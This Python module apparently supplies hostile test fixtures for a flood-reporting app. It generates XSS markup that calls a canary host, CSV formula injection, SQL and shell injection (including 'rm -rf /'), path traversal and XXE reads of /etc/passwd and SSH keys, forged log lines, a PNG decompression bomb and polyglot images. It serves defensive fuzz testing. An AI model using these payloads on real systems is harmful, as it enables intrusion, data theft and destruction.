"""Reports that mean harm, by kind: what a stranger may write into any field, and photos that are none."""

from __future__ import annotations

import io
import json
import struct
import zlib
from pathlib import Path
from typing import Any

LAT, LON = -6.2, 106.85
FORGED = "2026-01-01 00:00:00,000 CRITICAL sigap: FORGED"
"""The beginning of a log line that nobody but a report has written."""


def texts(canary: str) -> dict[str, str]:
    """Hostile texts by kind; those that call home call `canary` (http://host:port)."""
    markup = {
        "script": f"<script src={canary}/script></script><script>window.pwned=1;fetch('{canary}/fetch')</script>",
        "img": f"<img src='{canary}/img.png'>",
        "onerror": f"<img src=x onerror=\"window.pwned=2;new Image().src='{canary}/onerror'\">",
        "svg": f"<svg onload=window.pwned=3><image href='{canary}/svg'/><use href='{canary}/use#x'/></svg>",
        "iframe": f"<iframe src='{canary}/iframe' srcdoc='<script>parent.pwned=4</script>'></iframe>",
        "form": f"<form action='{canary}/form' id=f><input autofocus onfocus=f.submit()></form>",
        "meta": f"<meta http-equiv=refresh content='0;url={canary}/meta'>",
        "base": f"<base href='{canary}/'><link rel=stylesheet href='{canary}/css'><style>@import '{canary}/i'</style>",
        "media": f"<video src='{canary}/video' autoplay onloadstart=window.pwned=5></video>",
        "object": f"<object data='{canary}/object'></object><embed src='{canary}/embed'>",
        "javascript_link": "<a href='javascript:window.pwned=6'>javascript:window.pwned=6</a>",
        "data_link": "<a href='data:text/html,<script>window.pwned=7</script>'>x</a>",
        "entities": "&lt;script&gt;window.pwned=8&lt;/script&gt; &#60;b&#62; &amp;amp; &#x202e; &nbsp;",
        "attribute": '" onmouseover=window.pwned=9 x=\'"><b>',
        "template": "{{constructor.constructor('window.pwned=10')()}} ${window.pwned=10} `${1}` <%= 1 %> #{1}",
        "qt_rich": f"<qt><b>bold</b><font color=red size=7>x</font><img src='{canary}/qt'><br><table><tr><td>1</table>",
        "qt_file": "<img src='file:///etc/passwd'><img src=':/qt-project.org/styles/commonstyle/images/up-32.png'>",
        "mnemonic": "&Delete && &All\t&Now",
    }
    letters = {
        "rtl": "photo \u202egnp.exe\u202c \u2066isolate \u200bzero\u200cwidth\u200d \u200f\u061c mark",
        "arabic": "\u0641\u064a\u0636\u0627\u0646 " * 20,
        "nul": "before\x00after \x00",
        "control": "".join(map(chr, range(1, 32))) + "\x7f\x85\x9b31m \x1b[2J\x1b]0;title\x07",
        "combining": "Z" + "\u0301\u0316\u0489" * 3000 + "algo",
        "emoji": "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466\U0001f3f4\U000e0067\U000e0062\U000e007f"
        * 30,
        "noncharacter": "\ufffe\uffff\U0010ffff\ufdd0 \ufeffbom \u2028line\u2029paragraph",
        "surrogate": "lone \ud800 and \udfff turned \udc00\ud800",
        "wide": "\ufdfd\U0001242b\u2e3b\u0bf5" * 200,
    }
    sizes = {
        "long_line": "A" * 1_000_000,
        "long_word_rtl": "\u05d0" * 200_000,
        "many_lines": "line\n" * 10_000,
        "many_spaces": " " * 300_000 + "end",
        "many_tags": "<b>" * 50_000,
    }
    programs = {
        "format": "{0} {name} {0.__class__.__mro__} {:>99999999} %s %n %(x)s %1 %L1 $1 ${HOME} {}",
        "csv_formula": "=cmd|' /C calc'!A0",
        "csv_link": f'=HYPERLINK("{canary}/csv","open")',
        "csv_plus": "+1+cmd|' /C calc'!A0",
        "csv_minus": "-2+3+cmd|' /C calc'!A0",
        "csv_at": "@SUM(1+9)*cmd|' /C calc'!A0",
        "csv_tab": "\t=1+1",
        "csv_break": 'x",=1+1\r\n"=1+1',
        "log_lines": f"ok\r\n{FORGED}\n{FORGED} 2\u2028{FORGED} 3",
        "sse": 'x\n\ndata: {"seq": 99999999}\n\nevent: seq',
        "path": "../../../../etc/passwd\\..\\..\\C:\\CON \\\\host\\share file:///etc/passwd ~/.ssh/id_rsa",
        "sql": "'); DROP TABLE reports; -- \" OR 1=1; SELECT load_extension('x') %' ESCAPE '\\",
        "fts": 'NEAR(a b) AND OR NOT title:x "unclosed * ^ {a b}: a-b (( a* col : "" ',
        "filter": 'cat=none is=overdue "not closed age>999999999999d p=1,2 box=nan,inf,1,2',
        "shell": "$(touch sigap-owned) `id` ; rm -rf / | cat & \n",
        "json": '"}],"items":[{"id":"forged"}],"x":[{"',
        "xml": "<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]><x>&a;</x> ]]>",
    }
    return markup | letters | sizes | programs


HUGE = "@huge@"
"""Stands for a number of 5,000 digits, more than Python writes or reads."""

IDS = {
    "slash": "a/b/../c",
    "dots": "..",
    "quotes": "q\"uo'te`s",
    "space": " lead and trail ",
    "percent": "%2e%2e%2f%00?x=1#y",
    "markup": "<script>window.pwned=20</script>",
    "formula": "=1+1",
    "line": "id\nid",
    "local": "local:forged",
    "number": "12345678901234567890123456789",
    "rtl": "\u202e321",
    "nul": "id\x00id",
    "long": "i" * 5000,
}
"""Ids of reports that look like something else."""

RAW_FIELDS: dict[str, dict[str, Any]] = {
    "nan": {"lat": float("nan"), "long": float("nan")},
    "infinity": {"lat": float("inf"), "long": float("-inf")},
    "huge": {"lat": 1e308, "long": -1e308},
    "huge_integer": {"lat": 10**4000, "long": 10**400, "priority": 10**300, "zipcode": HUGE},
    "far": {"lat": 95, "long": 999},
    "pole": {"lat": 90, "long": 180},
    "word_place": {"lat": "<b>", "long": "../.."},
    "year_9999": {"requested_datetime": "9999-12-31T23:59:59-12:00", "updated_datetime": "9999-12-31T23:59:59Z"},
    "year_1": {"requested_datetime": "0001-01-01T00:00:00+14:00", "updated_datetime": "0001-01-01T00:00:00Z"},
    "no_date": {"requested_datetime": "2026-99-99T99:99:99Z", "updated_datetime": "\x00"},
    "epoch": {"requested_datetime": "99999999999999999999", "updated_datetime": -1},
    "types": {"description": {"a": [1, {"b": None}]}, "address": ["x", 1], "status": 7, "service_name": True},
    "nothing": {"description": None, "address": None, "status": None, "service_name": None, "lat": None},
    "media_javascript": {"media_url": "javascript:window.pwned=30"},
    "media_data": {"media_url": "data:text/html,<script>window.pwned=31</script>"},
    "media_file": {"media_url": "file:///etc/passwd"},
    "media_types": {"media_url": [{"x": 1}, 7, None]},
}
"""Fields of a GeoReport request that are no texts, by kind."""


def request(key: str, **fields: Any) -> dict[str, Any]:
    """A GeoReport request."""
    base: dict[str, Any] = {
        "service_request_id": key, "status": "open", "service_code": "flood", "service_name": "Flood",
        "description": f"Report {key}", "requested_datetime": "2026-11-20T08:00:00+07:00",
        "updated_datetime": "2026-11-20T09:00:00+07:00", "address": "Jl. Uji", "lat": LAT, "long": LON,
    }  # fmt: skip
    return base | fields


def requests(canary: str) -> list[dict[str, Any]]:
    """All kinds in every field of a request, and five honest ones among them (ids `honest-N`)."""
    found = [request(f"honest-{number}", description=f"Honest report {number}") for number in range(5)]
    for number, (kind, text) in enumerate(texts(canary).items()):
        place = {"lat": LAT + number / 10_000, "long": LON + number / 10_000}
        found.append(
            request(
                f"text-{kind}", description=text, address=text[:3000], status_notes=text[:5000],
                agency_responsible=text[:3000], service_notice=text[:100], zipcode=text[:100], **place,
            )
        )  # fmt: skip
        if len(text) < 1000:
            found.append(request(f"service-{kind}", service_code=f"c{number}", service_name=text, **place))
            found.append(request(f"status-{kind}", status=text, **place))
    found += [request(key, description=f"id {kind}") for kind, key in IDS.items()]
    found += [request(f"raw-{kind}", **fields) for kind, fields in RAW_FIELDS.items()]
    for number, url in enumerate((f"{canary}/photo.jpg", canary.replace("http", "https") + "/tls.jpg")):
        found.append(request(f"media-{number}", media_url=url))
    return found


def write_requests(file: Path, canary: str) -> Path:
    """The requests as a GeoReport file: NaN and Infinity as bare words, lone surrogates as escapes."""
    file.write_text(encoded(requests(canary)), encoding="ascii")
    return file


def encoded(value: Any) -> str:
    """As JSON that only a hostile server would write."""
    return json.dumps(value).replace(f'"{HUGE}"', "9" * 5000)


def write_areas(file: Path, canary: str) -> Path:
    """Areas whose names and codes are hostile; their squares lie side by side."""
    features = []
    for number, (kind, text) in enumerate(texts(canary).items()):
        west, south = LON - 0.05 + number % 8 * 0.01, LAT - 0.05 + number // 8 * 0.01
        ring = [[west, south], [west + 0.01, south], [west + 0.01, south + 0.01], [west, south + 0.01], [west, south]]
        properties = {"code": f"{kind}'\"<b>", "name": text[:2000], "level": 4}
        features.append(
            {"type": "Feature", "properties": properties, "geometry": {"type": "Polygon", "coordinates": [ring]}}
        )
    file.write_text(json.dumps({"type": "FeatureCollection", "features": features}), encoding="ascii")
    return file


def photos() -> dict[str, bytes]:
    """Photos by kind; all begin as pictures do."""
    from PIL import Image

    def saved(kind: str, size: tuple[int, int] = (64, 48)) -> bytes:
        out = io.BytesIO()
        Image.new("RGB", size, (90, 120, 90)).save(out, kind)
        return out.getvalue()

    jpeg = saved("JPEG", (640, 480))
    return {
        "honest": jpeg,
        "bomb": _png_bomb(9_000),
        "truncated": jpeg[: len(jpeg) // 2],
        "header_only": b"\xff\xd8\xff",
        "polyglot": jpeg + b"<script>window.pwned=40</script>PK\x03\x04" + b"%PDF-1.4",
        "comment": jpeg[:2] + b"\xff\xfe\x00\x22<script>window.pwned=41</script>" + jpeg[2:],
        "svg_inside": b"\x89PNG\r\n\x1a\n" + b"<svg xmlns='http://www.w3.org/2000/svg' onload='window.pwned=42'/>",
        "huge_sides": _png(2**31 - 1, 2**31 - 1, b""),
        "webp_garbage": b"RIFF\xff\xff\xff\xffWEBP" + bytes(range(256)) * 40,
    }


def _png(width: int, height: int, scan: bytes) -> bytes:
    def chunk(name: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", scan) + chunk(b"IEND", b"")


def _png_bomb(side: int) -> bytes:
    """A picture of `side` squared pixels (243 MB at 9,000) in 240 kB."""
    packer = zlib.compressobj(9)
    row = b"\0" * (side * 3 + 1)
    return _png(side, side, b"".join(packer.compress(row) for _ in range(side)) + packer.flush())
